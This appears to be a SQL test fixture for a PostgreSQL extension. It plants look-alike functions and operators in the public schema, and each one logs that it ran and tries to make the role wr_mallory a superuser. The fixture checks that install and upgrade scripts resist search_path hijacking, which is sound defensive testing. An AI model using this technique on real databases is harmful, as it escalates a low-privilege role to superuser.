-- Look-alikes a role that may CREATE in the extension's schema (Supabase's public) plants:
-- functions and operators that match better than pg_catalog's (an exact argument type where
-- pg_catalog's is polymorphic or needs a cast), each of which records that it ran and tries
-- to make the role a superuser. wr_plant() plants them and wr_unplant() takes them back; both
-- run with the planting role's rights. Used by 13_hostile_install and tests/upgrade/paths.sh.
-- Needs: a role wr_mallory with CREATE on public.
CREATE TABLE public.wr_trap (what text, ran_as text);
GRANT INSERT ON public.wr_trap TO PUBLIC;

-- What the role plants, as a function it owns and runs with its own rights, so that it can
-- plant before an install or an update, and take it all back.
CREATE FUNCTION public.wr_plant() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $fn$
BEGIN
    EXECUTE $plant$CREATE FUNCTION wr_bait(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.wr_trap VALUES (what, current_user);
    BEGIN
        EXECUTE 'ALTER ROLE wr_mallory SUPERUSER';
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
END $$$plant$;
    EXECUTE $plant$CREATE FUNCTION unnest(a text[]) RETURNS SETOF text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('unnest(text[])'); RETURN QUERY SELECT pg_catalog.unnest(a); END $$$plant$;
    EXECUTE $plant$CREATE FUNCTION array_position(a text[], e text) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('array_position(text[], text)'); RETURN pg_catalog.array_position(a, e); END $$$plant$;
    EXECUTE $plant$CREATE FUNCTION cardinality(a text[]) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('cardinality(text[])'); RETURN pg_catalog.cardinality(a); END $$$plant$;
    EXECUTE $plant$CREATE FUNCTION cardinality(a numeric[]) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('cardinality(numeric[])'); RETURN pg_catalog.cardinality(a); END $$$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_overlap(a text[], b text[]) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('&&(text[], text[])'); RETURN a OPERATOR(pg_catalog.&&) b; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR && (LEFTARG = text[], RIGHTARG = text[], FUNCTION = wr_overlap)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_concat(a text[], b text[]) RETURNS text[] LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('||(text[], text[])'); RETURN a OPERATOR(pg_catalog.||) b; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR || (LEFTARG = text[], RIGHTARG = text[], FUNCTION = wr_concat)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_ge(a numeric, b integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('>=(numeric, integer)'); RETURN a OPERATOR(pg_catalog.>=) b; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR >= (LEFTARG = numeric, RIGHTARG = integer, FUNCTION = wr_ge)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_le(a numeric, b integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('<=(numeric, integer)'); RETURN a OPERATOR(pg_catalog.<=) b; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR <= (LEFTARG = numeric, RIGHTARG = integer, FUNCTION = wr_le)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_ne_oid(a oid, b integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('<>(oid, integer)'); RETURN a OPERATOR(pg_catalog.<>) b::oid; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR <> (LEFTARG = oid, RIGHTARG = integer, FUNCTION = wr_ne_oid)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_eq_char(a "char", b text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('=("char", text)'); RETURN a::text OPERATOR(pg_catalog.=) b; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR = (LEFTARG = "char", RIGHTARG = text, FUNCTION = wr_eq_char)$plant$;
    EXECUTE $plant$CREATE FUNCTION wr_eq_regproc(a oid, b regprocedure) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.wr_bait('=(oid, regprocedure)'); RETURN a OPERATOR(pg_catalog.=) b::oid; END $$$plant$;
    EXECUTE $plant$CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regprocedure, FUNCTION = wr_eq_regproc)$plant$;
END $fn$;
ALTER FUNCTION public.wr_plant() OWNER TO wr_mallory;
CREATE FUNCTION public.wr_unplant() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $fn$
BEGIN
    DROP OPERATOR public.&& (text[], text[]), public.|| (text[], text[]), public.>= (numeric, integer),
        public.<= (numeric, integer), public.<> (oid, integer), public.= ("char", text), public.= (oid, regprocedure);
    DROP FUNCTION public.unnest(text[]), public.array_position(text[], text), public.cardinality(text[]),
        public.cardinality(numeric[]), wr_overlap(text[], text[]), wr_concat(text[], text[]),
        wr_ge(numeric, integer), wr_le(numeric, integer), wr_ne_oid(oid, integer), wr_eq_char("char", text), wr_eq_regproc(oid, regprocedure),
        wr_bait(text);
END $fn$;
ALTER FUNCTION public.wr_unplant() OWNER TO wr_mallory;
